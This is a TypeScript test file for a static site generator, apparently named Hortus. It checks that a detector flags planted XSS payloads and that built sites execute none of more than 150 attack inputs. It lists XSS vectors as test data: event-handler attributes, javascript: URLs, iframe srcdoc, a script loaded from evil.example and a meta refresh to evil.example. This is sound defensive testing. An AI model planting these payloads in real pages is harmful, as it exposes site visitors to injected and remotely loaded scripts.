import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { dirname, join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it, onTestFinished } from 'vitest'
import { runHortus } from '../cli/run-hortus.ts'
import { hostileGarden } from './hostile-garden.ts'
import { startTrial, type Trial } from './open-pages.ts'
import { listSite, type ReadSite, siteReader } from './read-site.ts'
import { html, lines, sources } from './vectors.ts'

const isFull = process.env['HORTUS_FULL'] === '1'

let trial: Trial
beforeAll(async () => {
  trial = await startTrial()
})
afterAll(() => trial?.close())

describe('the detector', () => {
  const planted: ReadSite = (path) => {
    const number = /^\/planted\/(\d+)$/.exec(path)?.[1]
    if (number === undefined) return undefined
    const body = `<!doctype html><meta charset=utf-8><title>x</title><p>${lines[Number(number)]}</p>`
    return { body: Buffer.from(body), contentType: 'text/html' }
  }

  it('sees the attacks that are not cleaned', { timeout: 900_000 }, async () => {
    const all = lines.map((_, i) => i).filter((i) => isFull || i % 4 === 0)
    const deeds = await trial.tryPages(
      all.map((i) => `/planted/${i}`),
      planted,
    )
    const seen = (text: string): boolean => deeds.has(`/planted/${lines.indexOf(text)}`)
    expect(deeds.size).toBeGreaterThan(all.length / 3)
    expect([...deeds.values()].flat().some((deed) => deed.startsWith('ran alert 1'))).toBe(true)
    if (!isFull) return
    // By a script, from elsewhere, by itself, by hand, in a frame, in a drawing, by leading away, by an address.
    for (const text of [
      '<script>alert(1)</script>',
      '<script src="https://evil.example/x.js"></script>',
      '<img src=x onerror=alert(1)>',
      '<b onclick=alert(1)>x</b>',
      '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
      '<svg><a href="javascript:alert(1)"><text y=20>x</text></a></svg>',
      '<meta http-equiv=refresh content="0;url=https://evil.example/x.html">',
      '<a href="javascript:alert(1)" target=_blank>x</a>',
    ])
      expect(seen(text), text).toBe(true)
  })
})

/** Copies of a page with one attack each, in its text or in what stands around it, by paths of their own. */
function unsafePages(page: string): ReadonlyMap<string, string> {
  const attacks = [
    '<img src=x onerror=alert(1)>',
    '<b onclick=alert(1)>x</b>',
    '<i onpointerenter=alert(1)>x</i>',
    '<a href="javascript:alert(1)">x</a>',
    '<svg><a href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    '<script src="https://evil.example/x.js"></script>',
    '<iframe srcdoc="<b onclick=alert(1)>x</b>"></iframe>',
  ]
  const places: readonly (readonly [name: string, before: string])[] = [
    ['text', '</main>'],
    ['column', '</nav>'],
  ]
  return new Map(
    places.flatMap(([name, before]) =>
      // No two alike: what was asked on one page is not asked again on another.
      attacks.map((attack, i) => {
        const own = attack.replace('>x<', `>${name} ${i}<`)
        return [`/unsafe/${name}/${i}`, page.replace(before, `${own}${before}`)] as const
      }),
    ),
  )
}

describe('a garden full of attacks', () => {
  it('holds at least 150 of them', () => {
    expect(new Set([...lines, ...sources]).size).toBeGreaterThanOrEqual(150)
    expect(html.length).toBeGreaterThan(100)
  })

  it('runs none, whichever parser reads it', { timeout: 3_600_000 }, async () => {
    const folder = mkdtempSync(join(tmpdir(), 'hortus-xss-'))
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }), 600_000)
    const garden = join(folder, 'garden')
    for (const [path, text] of hostileGarden(!isFull)) {
      mkdirSync(dirname(join(garden, path)), { recursive: true })
      writeFileSync(join(garden, path), text)
    }
    const known = new Map<string, string>()
    let opened = 0
    for (const parser of ['native', 'remark']) {
      writeFileSync(join(garden, 'hortus.config.json'), JSON.stringify({ parser }))
      const site = join(folder, parser)
      const run = await runHortus(['build', 'garden', '--out', site], { cwd: folder })
      expect(run.stderr).toBe('')
      const readSite = siteReader(site)
      // What the first parser's site has too need not be tried again.
      const pages = listSite(site)
        .filter((path) => path.endsWith('/') || path.endsWith('.html'))
        .filter((path) => {
          const text = readSite(path)!.body.toString()
          const isNew = known.get(path) !== text
          known.set(path, text)
          return isNew
        })
      opened += pages.length
      // Unsafe pages among the others: what is not seen here is not seen anywhere.
      const unsafe = unsafePages(readSite('/hub/')!.body.toString())
      const every = Math.ceil(pages.length / unsafe.size)
      const mixed = [...unsafe.keys()].flatMap((path, i) => [
        path,
        ...pages.slice(i * every, (i + 1) * every),
      ])
      const deeds = await trial.tryPages(mixed, (path) => {
        const body = unsafe.get(path)
        return body === undefined
          ? readSite(path)
          : { body: Buffer.from(body), contentType: 'text/html; charset=utf-8' }
      })
      expect(Object.fromEntries([...deeds].filter(([path]) => !unsafe.has(path)))).toEqual({})
      expect([...deeds.keys()].filter((path) => unsafe.has(path)).sort()).toEqual([...unsafe.keys()].sort())
    }
    expect(opened).toBeGreaterThan(isFull ? 20 * lines.length : 100)
  })
})
